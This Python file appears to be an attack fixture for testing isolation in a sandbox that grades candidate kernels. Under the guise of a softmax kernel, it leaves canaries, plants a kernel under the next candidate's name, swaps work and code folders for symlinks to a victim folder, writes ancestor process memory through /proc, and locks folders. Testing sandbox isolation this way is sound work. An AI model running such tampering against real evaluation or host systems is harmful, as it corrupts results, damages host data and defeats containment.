"""Attack: leave something for the candidate checked next in the same worker, and change what
the zygote that forked this child serves next. It leaves a canary in a file in the sandbox's
/tmp (also seventeen folders deep, past what a path can name), its working directory and
$HOME, asks for a System V shared memory segment, and sets an attribute and a time on /tmp and
its working directory, then modes that lock the next child out of them; it plants an honest
kernel under the name the next candidate will have, moves or replaces the code folder and the
work folders of the next children with links to a host folder (``victim``: an engine that
empties them would empty it); and it writes its ancestors' memory through /proc. Then it says
what it got."""

import typing

import jax

load = typing.sys.modules["importlib"].import_module
os = load("os")
ctypes = load("ctypes")
TARGETS = {}  # the test writes canary, victim, honest (a kernel's text) and its name here
STAMP = 4102444800123456789  # a time it sets on the folders it shares: the next child's tell


def _ancestors():
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
    return found


def _try(outcome, name, action):
    try:
        action()
        outcome[name] = "done"
    except OSError as exc:
        outcome[name] = type(exc).__name__


def _write(path, text, dir_fd=None):
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dir_fd)
    os.write(descriptor, text.encode())
    os.close(descriptor)


def _deep_tmp():
    folder = os.open("/tmp", os.O_RDONLY)
    for _ in range(17):
        os.mkdir("d" * 255, dir_fd=folder)
        inner = os.open("d" * 255, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    _write("deep", TARGETS["canary"], dir_fd=folder)
    os.close(folder)


def _leave():
    outcome = {}
    for name, folder in (("tmp", "/tmp"), ("cwd", "."), ("home", os.environ.get("HOME", "."))):
        _try(
            outcome,
            name,
            lambda f=folder, n=name: _write(os.path.join(f, f"left-{n}"), TARGETS["canary"]),
        )
    _try(outcome, "deep", _deep_tmp)
    _try(outcome, "plant", lambda: _write(TARGETS["next_name"], TARGETS["honest"]))
    # Its own log is in its work folder, which is in the zygote's home.
    work = os.path.dirname(os.readlink("/proc/self/fd/1"))
    home = os.path.dirname(os.path.dirname(work))
    number = int(os.path.basename(work).rsplit("-", 1)[1])
    for ahead in range(1, 4):
        _try(
            outcome,
            f"next{ahead}",
            lambda a=ahead: os.symlink(
                TARGETS["victim"], os.path.join(os.path.dirname(work), f"forked-{number + a}")
            ),
        )
    _try(
        outcome,
        "move_code",
        lambda: os.rename(os.path.join(home, "code"), os.path.join(home, ".old")),
    )
    _try(outcome, "link_code", lambda: os.symlink(TARGETS["victim"], os.path.join(home, "code")))
    _try(outcome, "home_file", lambda: _write(os.path.join(home, "left"), TARGETS["canary"]))
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0x4E4D, 4096, 0o1666)  # IPC_CREAT | 0666
    outcome["shm"] = "made" if segment >= 0 else f"errno{ctypes.get_errno()}"
    # The folders' own metadata, read by the next child or locking it out: an attribute and a
    # time that carry words, then modes that deny it its folders (last: this child needs them).
    for name, folder in (("tmp", "/tmp"), ("cwd", ".")):
        _try(
            outcome,
            f"xattr_{name}",
            lambda f=folder: os.setxattr(f, "user.nm", TARGETS["canary"].encode()),
        )
        _try(outcome, f"time_{name}", lambda f=folder: os.utime(f, ns=(STAMP, STAMP)))
    for pid in _ancestors():

        def write_memory(p=pid):
            with open(f"/proc/{p}/mem", "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"\xcc")

        _try(outcome, f"mem{pid}", write_memory)
    return outcome


def kernel(x):
    outcome = _leave()
    _try(outcome, "lock_tmp", lambda: os.chmod("/tmp", 0o444))
    _try(outcome, "lock_cwd", lambda: os.chmod(".", 0))
    raise RuntimeError("ATTACK " + " ".join(f"{k}={v}" for k, v in outcome.items()))
    return jax.nn.softmax(x)
